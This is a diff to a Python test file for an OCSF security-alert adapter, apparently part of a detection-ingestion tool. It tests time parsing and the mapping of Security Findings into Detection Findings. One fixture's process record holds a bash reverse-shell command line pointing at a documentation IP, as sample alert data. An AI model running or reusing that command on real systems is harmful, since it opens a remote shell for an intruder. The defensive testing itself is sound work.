@@ -12,9 +12,15 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from tierzero.ingest.adapters.ocsf import OcsfAdapter
+from tierzero.ingest.adapters.ocsf import FLAG_CLASS_2001, OcsfAdapter
 from tierzero.ingest.alert import Alert, EntityKind, Severity
-from tierzero.ingest.base import ParseContext, RecordRejected
+from tierzero.ingest.base import (
+    FLAG_SAMPLE,
+    FLAG_TIME_DT_PREFERRED,
+    FLAG_TIME_UNIT_INFERRED,
+    ParseContext,
+    RecordRejected,
+)
 from tierzero.ingest.quarantine import QuarantinedRecord
 from tierzero.ingest.reader import IngestOptions, read
 
@@ -227,9 +233,186 @@ def test_other_ocsf_classes_match_so_they_are_rejected_clearly() -> None:
     record = _minimal(class_uid=3002, category_uid=3, type_uid=300201)
     assert ADAPTER.matches(record)
     assert _reason(record) == (
-        "OCSF class_uid 3002 (Authentication) is not a Detection Finding (2004)"
+        "OCSF class_uid 3002 (Authentication) is not a Detection Finding (2004) "
+        "or Security Finding (2001)"
     )
     assert "class_uid 9999 is not" in _reason(_minimal(class_uid=9999))
+
+
+# --- times as producers write them ----------------------------------------------------------
+
+SECONDS = 1794819331  # 2026-11-16T08:55:31Z, as Prowler and OCSF's Okta example write it
+AT = datetime(2026, 11, 16, 8, 55, 31, tzinfo=UTC)
+
+
+def test_epoch_seconds_are_read_by_magnitude_and_flagged() -> None:
+    alert = ADAPTER.parse(_minimal(time=SECONDS), CONTEXT)
+    assert alert.time == AT
+    assert alert.flags == (FLAG_TIME_UNIT_INFERRED,)
+    assert ADAPTER.parse(_minimal(time=SECONDS * 1000), CONTEXT).flags == ()
+
+
+def test_time_dt_alone_is_read_and_preferred_when_the_number_disagrees() -> None:
+    record = _minimal(time_dt="2026-11-16T09:55:31+01:00")
+    del record["time"]
+    alert = ADAPTER.parse(record, CONTEXT)
+    assert (alert.time, alert.flags) == (AT, ())
+    assert alert.metadata.original_time == "2026-11-16T09:55:31+01:00"
+    agree = ADAPTER.parse(_minimal(time=SECONDS, time_dt="2026-11-16T08:55:31Z"), CONTEXT)
+    assert (agree.time, agree.flags) == (AT, (FLAG_TIME_UNIT_INFERRED,))
+    wrong = ADAPTER.parse(
+        _minimal(time=SECONDS * 1000 + 3_600_000, time_dt="2026-11-16T08:55:31Z"), CONTEXT
+    )
+    assert (wrong.time, wrong.flags) == (AT, (FLAG_TIME_DT_PREFERRED,))
+
+
+def test_first_and_last_seen_dt_only_are_read() -> None:
+    info = {
+        "uid": "F-1",
+        "title": "t",
+        "first_seen_time_dt": "2026-11-16T08:50:00Z",
+        "last_seen_time": SECONDS,  # seconds here too: flagged once
+        "created_time_dt": "2026-11-16T08:56:00Z",
+    }
+    alert = ADAPTER.parse(_minimal(finding_info=info), CONTEXT)
+    assert alert.finding_info.first_seen_time == datetime(2026, 11, 16, 8, 50, tzinfo=UTC)
+    assert alert.finding_info.last_seen_time == AT
+    assert alert.flags == (FLAG_TIME_UNIT_INFERRED,)
+
+
+# --- Security Finding (2001) -------------------------------------------------------------------
+
+
+def _security_finding(**overrides: Any) -> dict[str, Any]:
+    """A Security Finding after the OCSF 1.0 ``security_finding`` class: ``finding`` (not
+    ``finding_info``), ``analytic``, ``process`` and ``state_id`` beside it."""
+    record = _minimal(class_uid=2001, type_uid=200101, state_id=1, state="New")
+    del record["finding_info"]
+    record["finding"] = {
+        "uid": "SF-9",
+        "title": "Reverse shell",
+        "desc": "A shell connected out",
+        "types": ["process"],
+        "first_seen_time": SECONDS * 1000 - 60_000,
+        "src_url": "https://console.example/f/SF-9",
+    }
+    record["analytic"] = {"uid": "R-77", "name": "Reverse shell by bash", "type_id": 1}
+    record["process"] = {
+        "name": "bash",
+        "pid": 4242,
+        "cmd_line": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+        "parent_process": {"name": "nginx", "pid": 1},
+    }
+    record["device"] = {"hostname": "web-01", "ip": "10.0.0.8"}
+    record["attacks"] = [{"technique": {"uid": "T1059.004"}, "tactic": {"uid": "TA0002"}}]
+    record.update(overrides)
+    return record
+
+
+def test_a_security_finding_becomes_a_detection_finding() -> None:
+    alert = ADAPTER.parse(_security_finding(), CONTEXT)
+    assert (alert.class_uid, alert.type_uid) == (2004, 200401)
+    assert alert.flags == (FLAG_CLASS_2001,)
+    info = alert.finding_info
+    assert (info.uid, info.title, info.desc, info.types) == (
+        "SF-9",
+        "Reverse shell",
+        "A shell connected out",
+        ("process",),
+    )
+    assert info.src_url == "https://console.example/f/SF-9"
+    assert info.first_seen_time == datetime(2026, 11, 16, 8, 54, 31, tzinfo=UTC)
+    assert (info.analytic.uid, info.analytic.name) == ("R-77", "Reverse shell by bash")
+    assert alert.techniques == ("T1059.004",)
+    assert alert.process is not None and alert.process.parent_process is not None
+    assert (alert.process.name, alert.process.parent_process.name) == ("bash", "nginx")
+    assert alert.device is not None and alert.device.hostname == "web-01"
+    assert alert.to_ocsf()["type_uid"] == 200401
+
+
+@pytest.mark.parametrize(
+    ("overrides", "check"),
+    [
+        ({"type_uid": None}, lambda a: a.type_uid == 200401),  # derived, so it may be absent
+        ({"severity_id": None}, lambda a: a.severity_id is Severity.UNKNOWN),
+        (
+            {"finding_info": {"uid": "FI-1", "title": "newer"}},
+            lambda a: a.source_alert_id == "FI-1",
+        ),
+    ],
+)
+def test_security_finding_leniencies(overrides: dict[str, Any], check: Any) -> None:
+    record = _security_finding()
+    for key, value in overrides.items():
+        if value is None:
+            del record[key]
+        else:
+            record[key] = value
+    assert check(ADAPTER.parse(record, CONTEXT))
+
+
+@pytest.mark.parametrize(
+    ("overrides", "drop", "expected"),
+    [
+        ({"type_uid": 200401}, (), "type_uid 200401 is inconsistent: class_uid 2001"),
+        ({}, ("finding",), "missing required field 'finding'"),
+        ({"finding": {"title": "t"}}, (), "missing required field 'finding.uid'"),
+        ({"finding": {"uid": "x"}}, ("analytic",), "missing 'finding.title'"),
+        ({"finding": "x"}, (), "field 'finding' should be an object"),
+        ({"severity_id": 9}, (), "severity_id 9 is not an OCSF severity"),
+    ],
+)
+def test_broken_security_findings_are_rejected(
+    overrides: dict[str, Any], drop: tuple[str, ...], expected: str
+) -> None:
+    record = {k: v for k, v in _security_finding(**overrides).items() if k not in drop}
+    assert expected in _reason(record)
+
+
+def test_a_detection_finding_still_needs_finding_info_type_uid_and_severity() -> None:
+    record = _minimal(finding={"uid": "F", "title": "t"})
+    del record["finding_info"]
+    assert _reason(record) == "missing required field 'finding_info'"
+
+
+def test_untyped_observables_naming_the_event_host_are_the_host() -> None:
+    record = _minimal(
+        observables=[
+            {"name": "hostname", "type_id": 0, "value": "host0.local"},
+            {"name": "proc.pname", "type_id": 0, "value": "proc.pname"},
+            {"name": "hostname", "type_id": 0, "value": "not a host; name"},
+        ]
+    )
+    alert = ADAPTER.parse(record, CONTEXT)
+    assert alert.values(EntityKind.HOST) == ("host0.local",)
+    assert alert.device is not None and alert.device.hostname == "host0.local"
+    with_device = ADAPTER.parse({**record, "device": {"hostname": "web-01"}}, CONTEXT)
+    assert with_device.device is not None and with_device.device.hostname == "web-01"
+
+
+def test_resources_are_cloud_resources_and_security_hub_samples_are_flagged() -> None:
+    record = _minimal(
+        resources=[
+            {"uid": "arn:aws:s3:::payroll", "name": "payroll", "type": "AwsS3Bucket"},
+            {"name": "orders-db"},
+            {"type": "nothing to name it"},
+        ],
+        unmapped={"Sample": "true"},
+    )
+    alert = ADAPTER.parse(record, CONTEXT)
+    assert alert.values(EntityKind.CLOUD_RESOURCE) == ("arn:aws:s3:::payroll", "orders-db")
+    assert alert.flags == (FLAG_SAMPLE,)
+    assert ADAPTER.parse(_minimal(unmapped={"Sample": "false"}), CONTEXT).flags == ()
+
+
+def test_file_parent_folder_is_read() -> None:
+    record = _minimal(file={"name": "x.exe", "parent_folder": "C:\\Users\\bob"})
+    alert = ADAPTER.parse(record, CONTEXT)
+    assert alert.file is not None
+    assert (alert.file.path, alert.file.parent_folder) == (
+        "C:\\Users\\bob\\x.exe",
+        "C:\\Users\\bob",
+    )
 
 
 # --- validation of the schema's required attributes ------------------------------------------
@@ -260,7 +443,8 @@ def test_minimal_record_parses() -> None:
         ({"severity_id": True}, "field 'severity_id' should be an integer"),
         ({"class_uid": "2004"}, "field 'class_uid' should be an integer"),
         ({"time": "2026-11-16T08:55:31Z"}, "field 'time' should be epoch milliseconds"),
-        ({"time": 1794819331}, "looks like epoch seconds"),
+        ({"time_dt": 1794819331}, "field 'time_dt' should be a date-time text"),
+        ({"time": None}, "missing required field 'time'"),
         ({"time": 1e30}, "field 'time' is not a valid time"),
         ({"finding_info": ["F-1"]}, "field 'finding_info' should be an object, got list"),
         ({"finding_info": {"title": "t"}}, "missing required field 'finding_info.uid'"),
